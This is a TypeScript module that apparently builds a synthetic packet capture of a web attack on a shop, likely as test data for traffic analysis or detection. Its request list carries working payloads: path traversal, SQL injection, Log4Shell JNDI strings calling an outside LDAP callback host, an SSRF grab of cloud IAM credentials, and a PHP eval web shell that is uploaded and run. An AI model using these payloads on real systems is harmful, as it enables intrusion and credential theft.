/** web-attack.pcap: an attacker works through a shop: probes, injections, Log4Shell, a web shell that answers. */
import { DNS_TYPE, dnsQuery, dnsResponse, httpRequest, httpResponse } from '../application-messages.js';
import { Recording } from '../recording.js';
import { ATTACKER, OUTSIDE_RESOLVER, WEB } from './actors.js';

const AGENT = { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' };
const NOT_FOUND = httpResponse('404 Not Found', '<h1>Not Found</h1>');
const WEB_SHELL = '<?php if (isset($_POST["k"])) { @eval(base64_decode($_POST["k"])); } ?>';

/** Requests with their answers, in order; each has a connection of its own. */
const VISITS: readonly (readonly [request: string, response: string])[] = [
  [
    httpRequest('GET /', { headers: AGENT }),
    httpResponse('200 OK', '<html><title>Shop</title><body>Welcome</body></html>'),
  ],
  [httpRequest('GET /.env', { headers: AGENT }), NOT_FOUND],
  [httpRequest('GET /.git/config', { headers: AGENT }), NOT_FOUND],
  [httpRequest('GET /download?file=../../../../etc/passwd', { headers: AGENT }), httpResponse('400 Bad Request', 'no')],
  [
    httpRequest('GET /item?id=7%27%20or%20%271%27=%271', { headers: AGENT }),
    httpResponse('200 OK', '<li>everything</li>'),
  ],
  [
    httpRequest('GET /item?id=7+union+all+select+1,name,3+from+users--', { headers: AGENT }),
    httpResponse('500 Internal Server Error', 'query failed'),
  ],
  [
    httpRequest('GET /', { headers: { ...AGENT, 'X-Api-Version': '${jndi:ldap://c8s1.oast.fun/a}' } }),
    httpResponse('200 OK', 'ok'),
  ],
  [
    httpRequest('GET /', { headers: { ...AGENT, Referer: '${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/b}' } }),
    httpResponse('200 OK', 'ok'),
  ],
  [
    httpRequest('GET /preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/shop', {
      headers: AGENT,
    }),
    httpResponse('502 Bad Gateway', 'timeout'),
  ],
  [httpRequest('POST /upload/avatar.php', { headers: AGENT, body: WEB_SHELL }), httpResponse('201 Created', 'stored')],
  [
    httpRequest('GET /upload/avatar.php?cmd=id', { headers: AGENT }),
    httpResponse('200 OK', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n'),
  ],
  [
    httpRequest('GET /admin', { headers: { ...AGENT, Authorization: 'Basic YWRtaW46YWRtaW4=' } }),
    httpResponse('401 Unauthorized', 'no'),
  ],
];

export function webAttack(): Recording {
  const recording = new Recording();
  VISITS.forEach(([request, response], i) => {
    recording
      .tcp(`${ATTACKER}:${51000 + i}`, `${WEB}:80`)
      .open()
      .client(request)
      .server(response)
      .close();
    recording.wait(700);
  });
  // The injected lookup is followed: the server asks for the callback name.
  recording.udp(`${WEB}:40053`, `${OUTSIDE_RESOLVER}:53`, dnsQuery('c8s1.oast.fun', { id: 0x51a7 }));
  recording.wait(12);
  return recording.udp(
    `${OUTSIDE_RESOLVER}:53`,
    `${WEB}:40053`,
    dnsResponse('c8s1.oast.fun', [203, 0, 113, 66], { id: 0x51a7, type: DNS_TYPE.a }),
  );
}
